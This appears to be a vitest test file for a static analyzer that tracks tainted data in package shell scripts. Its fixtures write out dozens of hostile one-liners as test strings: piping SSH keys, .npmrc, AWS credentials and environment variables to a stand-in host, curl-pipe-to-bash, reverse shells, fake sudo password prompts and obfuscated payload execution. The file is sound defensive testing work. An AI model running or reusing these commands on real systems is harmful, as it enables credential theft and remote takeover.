import { describe, expect, test } from 'vitest';
import type { Observation } from '../../../src/analyze/index.js';
import { interpretShell } from '../../../src/analyze/shell/index.js';
import { type FrontEndResult, HOLE } from '../../../src/analyze/task.js';
import { contextOf, scriptTask } from '../in-memory.js';

const run = (
  text: string,
  files: Record<string, string> = {},
  manifest: Record<string, unknown> = {},
): FrontEndResult => interpretShell(scriptTask(text), contextOf(files, manifest));
const sinks = (text: string, sink: string): Observation[] =>
  run(text).observations.filter((seen) => seen.sink === sink);
const flows = (text: string, sink: string): string[] => [
  ...new Set(sinks(text, sink).flatMap((seen) => seen.taints.map((taint) => taint.source))),
];
const started = (result: FrontEndResult): string[] =>
  result.next.map((task) => (task.kind === 'file' ? task.path : `${task.language}: ${task.text}`));

describe('flows of a script text', () => {
  test.each([
    ['cat ~/.npmrc | base64 | curl -d @- https://h.example/u', 'net.out', 'secret.file'],
    ['curl https://h.example/?e=$(env | base64 -w0)', 'net.out', 'env.all'],
    ['X=`cat $HOME/.ssh/id_rsa`; wget --post-data "$X" http://h.example', 'net.out', 'secret.file'],
    ['curl -F f=@$HOME/.aws/credentials https://h.example', 'net.out', 'secret.file'],
    ['curl -H "X: $NPM_TOKEN" https://h.example', 'net.out', 'secret.env'],
    ['tar cz ~/.ssh | nc h.example 9000', 'net.socket', 'secret.file'],
    ['nslookup $(whoami).h.example', 'dns.query', 'identity.host'],
    ['curl -s https://h.example/i.sh | bash', 'code.eval', 'net.response'],
    ['bash <(curl -s https://h.example/i.sh)', 'code.eval', 'net.response'],
    ['sh -c "$(wget -qO- https://h.example/i.sh)"', 'code.eval', 'net.response'],
    ['curl -o /tmp/i.sh https://h.example/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh', 'code.eval', 'net.response'],
    ['wget -q https://h.example/run.sh; sh ./run.sh', 'code.eval', 'net.response'],
    ['git clone https://h.example/r.git /tmp/r && node /tmp/r/x.js', 'code.eval', 'net.response'],
    ['eval "$(curl -s https://h.example)"', 'code.eval', 'net.response'],
    ['echo aGVsbG8= | base64 -d | curl --data-binary @- https://h.example/$(hostname)', 'net.out', 'identity.host'],
    ['env | xargs -I{} curl https://h.example/{}', 'net.out', 'env.all'],
    ['gh auth token | curl -d @- https://h.example', 'net.out', 'secret.tool'],
    ['if [ -z "$CI" ]; then curl -d "$(cat .env)" https://h.example; fi', 'net.out', 'secret.file'],
    ['printf "%s\\n" a "$HOME/.pgpass" | xargs cat | curl -d @- https://h.example', 'net.out', 'secret.file'],
    ['printf "%s\\n" .ssh/id_rsa | tar -C "$HOME" -czf - -T - | nc h.example 9000', 'net.socket', 'secret.file'],
    ['find "$HOME/.ssh" -type f | cpio -o | curl -T - https://h.example', 'net.out', 'secret.file'],
    ['echo .npmrc > /tmp/l; rsync --files-from=/tmp/l ~/ a@h.example:/in', 'net.out', 'secret.file'],
    [
      'show() { while read -r f; do [ -r "$f" ] && cat "$f"; done; }; { ls ~/x*; echo ~/.netrc; } | show | curl -d @- https://h.example',
      'net.out',
      'secret.file',
    ],
  ])('%s', (text, sink, source) => {
    expect(flows(text, sink)).toContain(source);
  });

  test.each([
    ['cat ~/.npmrc | ssh -p 22 a@h.example "cat > in"', ['secret.file']],
    ['ssh a@h.example "echo $(cat ~/.netrc) > in"', ['secret.file']],
    ['ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no a@h.example uptime', []],
    ["ssh a@h.example 'cat ~/.ssh/authorized_keys'", []],
    ['scp -i ~/.ssh/id_rsa dist.tgz a@h.example:/srv', []],
    ['scp ~/.npmrc a@h.example:/in', ['secret.file']],
    ['rsync -e "ssh -i ~/.ssh/id_rsa" -a dist/ a@h.example:/srv', []],
    ['cat ~/.ssh/id_ed25519.pub | ssh a@h.example "cat >> .ssh/authorized_keys"', ['identity.host']],
  ])('of ssh and its copies only what is sent: %s', (text, expected) => {
    expect(flows(text, 'net.out')).toEqual(expected);
  });

  test.each([
    'sudo -n -u root node x.js',
    'sudo --user root -E node x.js',
    'nice -n 10 node x.js',
    'timeout -k 5 -s KILL 30 node x.js',
    'env -u CI -i A=1 node x.js',
    'stdbuf -o L node x.js',
    'ionice -c 3 nohup node x.js',
    'doas -u root node x.js',
  ])('what comes before a program is not taken for it: %s', (text) => {
    expect(started(run(text, { 'x.js': '1' }))).toEqual(['x.js']);
  });

  test('a registry that is named as a whole is told nothing; one with a secret in its address is', () => {
    const publish = (registry: string): string[] =>
      flows(`T=$(cat ~/.npmrc); npm publish --otp "$T" --registry ${registry}`, 'net.out');
    expect(publish('https://registry.example/')).toEqual([]);
    expect(publish('https://registry.example/$T/')).toContain('secret.file');
  });

  test('a socket with a shell is a handler', () => {
    expect(sinks('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'net.handler').map((seen) => seen.target)).toEqual([
      '192.0.2.1:4444',
    ]);
    expect(sinks('nc -e /bin/sh h.example 4444', 'net.handler')).toHaveLength(1);
  });

  test('the condition that a command stands under is its guard', () => {
    const [seen] = sinks('if [ -n "$GITHUB_ACTIONS" ]; then curl https://h.example; fi', 'net.out');
    expect(seen?.guards.map((guard) => guard.kind)).toEqual(['ci']);
  });

  test('a plain download, a local copy and a build carry no secret', () => {
    expect(flows('curl -fsSL -o out.tgz https://h.example/v1.tgz', 'net.out')).toEqual([]);
    expect(run('cp README.md dist/ && node-gyp rebuild || exit 0').observations.flatMap((seen) => seen.taints)).toEqual(
      [],
    );
  });
});

describe('sources of a release', () => {
  const through = (text: string): string[] =>
    sinks(text, 'code.eval').flatMap(({ taints }) => taints.map((taint) => taint.through.join()));
  test('what configures an unpacked archive is marked, other scripts of it are not', () => {
    const fetched = 'curl -L https://h.example/z-1.3.1.tar.gz | tar xz && cd z-1.3.1 && ';
    expect(through(`${fetched} ./configure --static`)).toEqual(['configure']);
    expect(through(`${fetched} sh autogen.sh`)).toEqual(['configure']);
    expect(through(`${fetched} sh install.sh`)).toEqual(['']);
    expect(through('curl -o configure https://h.example/configure; sh configure')).toEqual(['']);
  });

  test.each(['. ~/.nvm/nvm.sh', '. "$NVM_DIR/nvm.sh"', 'P=$(brew --prefix nvm); . "$P/nvm.sh"', 'source ~/.bashrc'])(
    'what a login shell runs anyhow is no entry of the package: %s',
    (text) => {
      expect(run(text).facts).toEqual([]);
    },
  );

  test('other files of the home folder are', () => {
    expect(run('. ~/.cache/x.sh').facts.map(({ id }) => id)).toEqual(['unresolved-entry.outside']);
  });
});

describe('what is typed at a prompt', () => {
  test.each([
    ['read -rsp "[sudo] password for $USER: " pw; echo; curl -d "$pw" https://h.test', '[sudo] password for …:'],
    ['read -s "pw?Password: "; printf %s "$pw" > /dev/tcp/h.test/80', 'Password:'],
    ['stty -echo; read -p "Passphrase: " p; curl -d "p=$p" https://h.test', 'Passphrase:'],
    ['read -s; curl -d "$REPLY" https://h.test', 'read -s'],
    ['f() { read -s pin; curl https://h.test/$pin; }', 'pin'],
  ])('%s', (text, detail) => {
    const typed = run(text).observations.flatMap(({ taints }) =>
      taints.filter(({ source }) => source === 'typed.secret'),
    );
    expect(typed.map((taint) => taint.detail)).toContain(detail);
  });

  test.each([
    'read -p "Continue? " yes; curl -d "$yes" https://h.test',
    'cat a | read -s x; curl -d "$x" https://h.test',
  ])('is nothing worth hiding: %s', (text) => {
    const typed = run(text).observations.flatMap(({ taints }) => taints.map(({ source }) => source));
    expect(typed).not.toContain('typed.secret');
  });
});

describe('what a script text starts', () => {
  const files = {
    'a.js': '',
    'lib/b.js': '',
    'run.sh': '',
    'i.py': '',
    'x.ps1': '',
    Makefile: 'all:\n\techo',
    'binding.gyp': '{}',
  };
  test.each([
    ['node a.js', ['a.js']],
    ['node ./lib/b', ['lib/b.js']],
    ['cd lib && node b.js', ['lib/b.js']],
    ['FOO=1 node -r ./a.js ./lib/b.js --flag', ['a.js', 'lib/b.js']],
    ['NODE_OPTIONS="--require ./a.js" node -v', ['a.js']],
    [`NODE_OPTIONS="$NODE_OPTIONS --no-warnings --require=./a.js" make-it`, ['a.js']],
    ['node --import ./a.js -e "1"', ['a.js', 'javascript: 1']],
    ['node -e \'require("./a")\'', ['javascript: require("./a")']],
    ['sh run.sh; ./run.sh', ['run.sh', 'run.sh']],
    ['python3 i.py', ['i.py']],
    ['powershell -ExecutionPolicy Bypass -File x.ps1', ['x.ps1']],
    [`powershell -enc ${Buffer.from('iwr x', 'utf16le').toString('base64')}`, ['powershell: iwr x']],
    ['cmd /c "node a.js"', ['shell: node a.js']],
    ['cmd x.bat', []],
    ['start /B node a.js', ['a.js']],
    ['npm run -s build', ['shell: node lib/b.js']],
    ['cross-env A=b node a.js', ['a.js']],
    ['make -s', ['Makefile']],
    ['node-gyp rebuild', ['binding.gyp']],
    ['$npm_package_config_run', ['a.js']],
    ['echo bm9kZSBhLmpz | base64 -d | sh', ['shell: node a.js']],
    ['tsx a.js & bun run a.js; deno run -A a.js', ['a.js', 'a.js', 'a.js']],
    ['n=node; $n a.js', ['a.js']],
    ['if not exist lib (node a.js)', ['a.js']],
    ['sh -c "true; if (!existsSync(\'lib\')) node a.js"', ["shell: true; if (!existsSync('lib')) node a.js"]],
  ])('%s', (text, expected) => {
    const manifest = { scripts: { build: 'node lib/b.js' }, config: { run: 'node a.js' } };
    expect(started(run(text, files, manifest))).toEqual(expected);
  });

  test.each([
    ['"/Applications/Some Browser.app/Contents/MacOS/Some Browser" --version', []],
    ['/usr/bin/some-browser --version', []],
    ['msbuild build/binding.sln /t:rebuild', []],
    ['. /usr/bin/../../tmp/x', ['unresolved-entry.outside']],
    ['~/.local/bin/agent', ['unresolved-entry.outside']],
    ['~/AppData/Local/Microsoft/Edge/Application/msedge.exe --version', []],
    ['~/AppData/Local/Updates/agent.exe --version', ['unresolved-entry.outside']],
    ['~/.cargo/bin/cargo build', []],
    ['cd lib; node ../missing.js', ['unresolved-entry.missing']],
    ['cd lib; node ../../missing.js', ['unresolved-entry.outside']],
  ])('%s: what of it cannot be found', (text, expected) => {
    expect(run(text, { 'lib/a.js': '' }).facts.map((fact) => fact.id)).toEqual(expected);
  });

  test.each([
    ['trap "rm -f $OUT; rmdir $DIR" EXIT', 0],
    ['trap "{ rm -rf $OUT; }" EXIT INT', 0],
    ['trap "rm -f $OUT; $NEXT" EXIT', 1],
    ['trap "$NEXT" EXIT', 1],
    ['trap "rm -f x && sh $NEXT" EXIT', 1],
  ])('%s', (text, count) => {
    expect(sinks(text, 'code.eval')).toHaveLength(count);
  });

  test('what cannot be found is said', () => {
    expect(run('node missing.js').facts.map((fact) => fact.id)).toEqual(['unresolved-entry.missing']);
    expect(run('node "$SOME_FILE"').facts.map((fact) => fact.id)).toEqual(['unresolved-entry.dynamic']);
    expect(run('node node_modules/.hidden/x.js').facts.map((fact) => fact.id)).toEqual([
      'unresolved-entry.other-package',
    ]);
  });

  test('deep nesting and broken syntax end without an exception', () => {
    expect(() => run(`${'$('.repeat(3000)}id${')'.repeat(3000)}`)).not.toThrow();
    expect(() => run('if ((( ; | && "\'`$(')).not.toThrow();
    expect(run('true;'.repeat(10_000)).facts.map((fact) => fact.id)).toContain('limit.shell');
  });
});

describe('where a script lies, and what it moves', () => {
  const vendor = { 'vendor/run.sh': '', 'vendor/x.wasm': '\x7fELF', 'vendor/part.dat': 'jtrg uggcf://u.rknzcyr' };
  const inFile = (text: string): FrontEndResult =>
    interpretShell({ ...scriptTask(text), file: 'vendor/run.sh' }, contextOf(vendor), true);

  test.each([
    'dir=$(cd "$(dirname "$0")" && pwd); sh "$dir/x.wasm"',
    'here=${0%/*}; t=$(mktemp -d); install -m 755 "$here/x.wasm" "$t/kworker"; (cd "$t" && ./kworker)',
    'cp "$(dirname "${BASH_SOURCE[0]}")/x.wasm" /tmp/w; /tmp/w',
  ])('%s starts the file of the package', (text) => {
    expect(started(inFile(text))).toContain('vendor/x.wasm');
  });

  test('a shell of its own does not change where the others are', () => {
    expect(started(run('(cd build); node x.js', { 'x.js': '', 'build/x.js': '' }))).toEqual(['x.js']);
  });

  test.each([
    'openssl enc -d -aes-256-cbc -k x -in vendor/part.dat | sh',
    `x=$(printf %s "$Y" | tr 'A-Za-z' 'N-ZA-Mn-za-m'); eval "$x"`,
  ])('%s runs what is hidden', (text) => {
    const { observations } = inFile(text);
    const run = observations.filter(({ sink }) => sink === 'code.eval');
    expect(run.flatMap(({ taints }) => taints.map(({ source }) => source))).toContain('file.own');
  });

  test('a file that is named by a pattern below an unknown folder is read', () => {
    const { observations } = inFile(`eval "$(cat "$UNKNOWN"/*.dat | tr 'A-Za-z' 'N-ZA-Mn-za-m')"`);
    expect(observations.filter(({ sink }) => sink === 'net.out').map(({ target }) => target)).toEqual([
      'https://h.example',
    ]);
  });

  test('functions of a sourced file are called by their names', () => {
    const files = {
      'lib.sh': 'send() { curl -d "$1" "https://$host"; }\nhost=$(sed -n "s/^host: //p" notes)\n',
      notes: 'a\nhost: h.example\n',
    };
    const { observations } = run('. ./lib.sh; send "$(cat ~/.npmrc)"', files);
    const sent = observations.filter(({ sink, target }) => sink === 'net.out' && target === 'https://h.example');
    expect(sent.flatMap(({ taints }) => taints.map(({ source }) => source))).toContain('secret.file');
  });

  test('functions are called whatever letters their names have', () => {
    expect(flows('sendIt() { curl -d "$1" https://h.example; }; sendIt "$(cat ~/.npmrc)"', 'net.out')).toContain(
      'secret.file',
    );
    const shown = sinks('colorEcho() { echo "$1"; }; colorEcho "$(curl -s https://h.example)"', 'process.spawn');
    expect(shown.map(({ api }) => api)).toEqual(['shell.curl']);
  });

  test('behind a host in plain sight, and where a download is put, pieces hide nothing', () => {
    const decoded = (line: string): boolean | undefined =>
      sinks(`X=a@h.example; v=\${X#*@}; ${line}`, 'process.spawn').find(({ api }) => api === 'shell.curl')?.args[0]
        ?.decoded;
    expect(decoded('curl -fo "lib-$v.so" "https://h.example/$v/lib.so"')).toBe(false);
    expect(decoded('curl -f "https://$v/lib.so"')).toBe(true);
    expect(decoded('curl -fd "$v" https://h.example')).toBe(true);
  });

  test('autoconf makes names with sed and tr, and evaluates assignments of them', () => {
    const { observations } = inFile('v=$(echo "ac_$1" | tr "a-z.-" "A-Z__"); eval "have_$v=yes"');
    expect(observations.flatMap(({ taints }) => taints.map(({ source }) => source))).not.toContain('file.own');
  });

  test('a download is run by a path of which the folder is not known', () => {
    expect(flows('curl -o "$OUT/x" https://h.example; chmod +x "$OUT/x"; "$OUT/x"', 'code.eval')).toContain(
      'net.response',
    );
  });

  test('a program that is looked for is not put together, one of pieces is', () => {
    const decoded = (text: string): boolean | undefined =>
      inFile(text).observations.find(({ target }) => target?.endsWith(' -c x') === true)?.args[0]?.decoded;
    expect(decoded('$(which python3) -c x')).toBe(false);
    expect(decoded('$(which python3 >/dev/null && echo python3 || echo python) -c x')).toBe(false);
    expect(decoded('$(command -v curl) -c x')).toBe(true);
    expect(decoded('$(echo py)thon -c x')).toBe(true);
  });

  test('what a script of package.json prints goes on', () => {
    const scripts = { unpack: 'openssl enc -d -aes-256-cbc -k x -in a.dat' };
    const { observations } = run('npm run -s unpack | sh', { 'a.dat': 'U2FsdGVk' }, { scripts });
    expect(observations.find(({ sink }) => sink === 'code.eval')?.taints[0]?.source).toBe('file.own');
  });
});

describe('tools that run code of the package', () => {
  test('a configuration is started as the tool starts it', () => {
    const { next } = run('babel src', { 'babel.config.js': '', '.babelrc': '{"plugins":["./p.js"]}' });
    expect(next.map((task) => [task.entry.calledBack, task.kind === 'text' && task.language])).toEqual([
      [true, 'javascript'],
      [true, 'javascript'],
    ]);
  });

  test('the configuration may stand in package.json', () => {
    expect(run('jest', {}, { jest: { setupFiles: ['./s.js'] } }).next).toHaveLength(1);
  });

  test('deno loads what a map names, registries excepted', () => {
    const map = JSON.stringify({ imports: { 'a/': 'https://h.example/a/', 'std/': 'https://deno.land/std@1.0.0/' } });
    const { observations } = run('npx deno@2 run --import-map=m.json a.ts', { 'm.json': map, 'a.ts': '' });
    expect(observations.filter(({ sink }) => sink === 'code.require').map(({ target }) => target)).toEqual([
      'https://h.example/a/',
    ]);
  });
});

describe('what a script reads line by line', () => {
  const list = { 'list.txt': 'k|ssh-ed25519|AAAA1\nh|git.example|AAAA2\n' };
  const script =
    'while IFS="|" read -r kind a b; do case $kind in k) f=authorized ;; \\*) f=star ;; *) f=known ;; esac; echo "$a $b" >> ~/.ssh/$f; done < list.txt';

  test('each line of an own file once, by the first case that fits', () => {
    const written = run(script, list).observations.filter(({ sink }) => sink === 'fs.write');
    expect(written.map(({ target, args }) => [target, args[1]?.text])).toEqual([
      ['~/.ssh/authorized', 'ssh-ed25519 AAAA1'],
      ['~/.ssh/known', 'git.example AAAA2'],
    ]);
  });

  test('a test of known words decides what is printed, not what is seen', () => {
    const result = run('l=b; echo x > ~/$( [ $l = a ] && echo one || echo two ); [ $l = a ] && curl https://h.example');
    const targets = result.observations.map(({ sink, target }) => `${sink} ${target}`);
    expect(targets).toContain('fs.write ~/two');
    expect(targets).toContain('net.out https://h.example');
  });

  test('members of a list are words of their own; tar takes names from its folder', () => {
    const text =
      'f() { local more=(.ssh .gnupg); tar -C "$HOME" -czf - "${more[@]}" | curl -T - https://h.example; }; f';
    const sent = run(text).observations.find(({ sink }) => sink === 'net.out');
    expect(sent?.taints.map(({ detail }) => detail)).toEqual(['~/.ssh', '~/.gnupg']);
  });
});

describe('a command that is given as a program and words', () => {
  const ran = (text: string): string[] => {
    const taints = [{ source: 'net.response', detail: 'body', file: 'a.js', line: 1, through: [], steps: [] }];
    const task = { ...scriptTask(text), taints, programTaints: [] };
    return interpretShell(task, contextOf({}))
      .observations.filter(({ api }) => api === 'shell.dynamic')
      .map(({ sink }) => sink);
  };

  test.each(['sudo -n ', 'env A=1 ', 'nohup '])('what stands behind %s carries its own', (prefix) => {
    expect(ran(prefix + HOLE)).toEqual(['code.eval']);
  });

  test('a program carries what its name does, not what its words do', () => {
    expect(ran(`${HOLE} ${HOLE}`)).toEqual(['process.spawn']);
  });
});

test('where a clone is put on this machine is told to nobody', () => {
  const told = (text: string): string[] => flows(text, 'net.out').filter((source) => source.startsWith('identity'));
  expect(told('git clone https://h.example/r.git "$(hostname)"')).toEqual([]);
  expect(told('git clone "https://h.example/$(hostname).git" /tmp/r')).not.toEqual([]);
});

describe('folders that git names', () => {
  test.each([
    ['$(git rev-parse --git-path hooks)/pre-push', `${HOLE}/.git/hooks/pre-push`],
    ['"$(git rev-parse --git-dir)/hooks/pre-push"', `${HOLE}/.git/hooks/pre-push`],
    ['$(git rev-parse --git-path hooks/pre-push)', `${HOLE}/.git/hooks/pre-push`],
    ['$(git rev-parse --show-toplevel)/pre-push', `${HOLE}/pre-push`],
  ])('%s', (path, target) => {
    expect(sinks(`cp hook.sh ${path}`, 'fs.write').map((seen) => seen.target)).toEqual([target]);
  });
});

test.each([
  [
    `node -e "const { existsSync } = require('fs'); if (!existsSync('lib')) start('x');"`,
    ["node -e const { existsSync } = require('fs'); if (!existsSync('lib')) start('x');"],
  ],
  ['if not exist lib (node a.js) else (node b.js)', ['node a.js', 'node b.js']],
  ['if "%X%"=="y" (node c.js)', ['node c.js']],
])('a condition of cmd is told from one of the code that is handed over: %s', (text, commands) => {
  const seen = run(text).observations.filter(({ api }) => api === 'shell.node');
  expect(seen.map(({ target }) => target)).toEqual(commands);
});
